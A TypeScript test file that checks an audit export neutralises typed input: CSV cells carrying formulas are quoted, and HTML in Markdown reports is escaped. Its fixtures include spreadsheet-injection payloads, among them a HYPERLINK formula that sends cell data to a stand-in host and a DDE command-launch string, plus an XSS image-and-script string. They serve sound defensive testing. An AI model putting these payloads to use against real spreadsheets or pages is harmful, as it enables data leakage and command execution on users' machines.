/**
 * The audit exports keep what people typed as text: it reaches a spreadsheet as text, never as
 * a formula, and a Markdown report as text, never as HTML; the Markdown report keeps a long reason whole and says what its timing column holds.
 */
import { readdirSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { buildAudit, readHistoryFiles, type AuditRow } from '../../audit';
import { formatAudit } from '../../present/audit';
import { HISTORIES_DIR } from '../helpers/histories';

const FORMULAS = [
  '=HYPERLINK("http://x.example/?"&A1,"Bấm")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];

/** Refusals logged with what an attacker typed as the person and the reason. */
async function rowsWith(values: string[], lang: 'vi' | 'en' = 'vi'): Promise<AuditRow[]> {
  const files = readdirSync(HISTORIES_DIR).filter((f) => /^date-moved(\.[a-z-]+)?\.json$/.test(f));
  const logged = values.map((v, i) => ({
    time: `2026-11-24T16:04:${String(10 + i).padStart(2, '0')}.000Z`,
    conferenceId: 'schedule',
    taskId: 'report-a',
    action: 'submit',
    unit: 'b',
    person: v,
    requestId: `logged-${i}`,
    field: 'note',
    reason: v,
    reasonVi: v,
    type: 'KehoachInvalidPayload',
  }));
  return buildAudit(await readHistoryFiles(files.map((f) => HISTORIES_DIR + f)), logged, lang);
}

/** The cells of a CSV text, read the way a spreadsheet reads them (RFC 4180 quotes). */
function csvCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted && ch === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (!quoted && (ch === ',' || ch === '\n')) {
      row.push(cell);
      cell = '';
      if (ch === '\n') {
        rows.push(row);
        row = [];
      }
    } else {
      cell += ch;
    }
  }
  row.push(cell);
  rows.push(row);
  return rows;
}

describe('CSV audit export', () => {
  it('shows a typed formula as text: every cell a spreadsheet would run starts with a quote mark', async () => {
    const csv = formatAudit(await rowsWith(FORMULAS), 'csv', 'vi');
    const cells = csvCells(csv).flat();
    const running = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c));
    expect(running).toEqual([]);
    for (const f of FORMULAS) expect(cells).toContain(`'${f}`);
  });

  it('keeps numbers, dates and ordinary text readable as they are', async () => {
    const rows = await rowsWith(['-5', '2023-03-26', 'Nộp báo cáo — bản 2']);
    const cells = csvCells(formatAudit(rows, 'csv', 'vi')).flat();
    expect(cells).toContain('-5');
    expect(cells).toContain('2023-03-26');
    expect(cells).toContain('Nộp báo cáo — bản 2');
    expect(cells.some((c) => c.startsWith("'") && !c.startsWith("'="))).toBe(false);
  });
});

describe('Markdown audit export', () => {
  it('shows typed HTML as text, not markup', async () => {
    const html = '<img src=x onerror="alert(1)"><script>alert(2)</script> & <b>đậm</b>';
    const md = formatAudit(await rowsWith([html]), 'md', 'vi');
    expect(md).not.toMatch(/<img|<script|<b>/);
    expect(md).toContain(
      '&lt;img src=x onerror="alert(1)"&gt;&lt;script&gt;alert(2)&lt;/script&gt; &amp; &lt;b&gt;đậm&lt;/b&gt;',
    );
  });

  it('keeps a long reason whole and heads the on-time column as what it holds', async () => {
    const reason = `Trả lại: ${'bổ sung số liệu từng xã, kèm ảnh chụp biên bản; '.repeat(8)}hết.`;
    for (const lang of ['vi', 'en'] as const) {
      const md = formatAudit(await rowsWith([reason], lang), 'md', lang);
      expect(md).toContain(reason);
      const header = (md.split('\n')[0] as string).split(' | ');
      expect(header).toContain(lang === 'vi' ? 'Đúng/trễ hạn' : 'On time/late');
      expect(header).not.toContain('Hạn');
    }
  });
});
